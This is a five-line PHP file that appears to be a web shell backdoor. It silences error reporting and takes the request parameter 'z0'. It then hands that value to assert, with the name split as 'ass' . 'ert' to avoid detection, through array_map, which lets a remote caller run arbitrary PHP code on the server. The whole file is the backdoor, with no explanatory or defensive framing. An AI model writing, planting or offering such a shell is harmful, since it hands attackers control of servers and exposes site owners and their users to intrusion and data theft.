<?php
@error_reporting(0);
$k = $_REQUEST['z0'];
@array_map('ass' . 'ert', array($k));
?>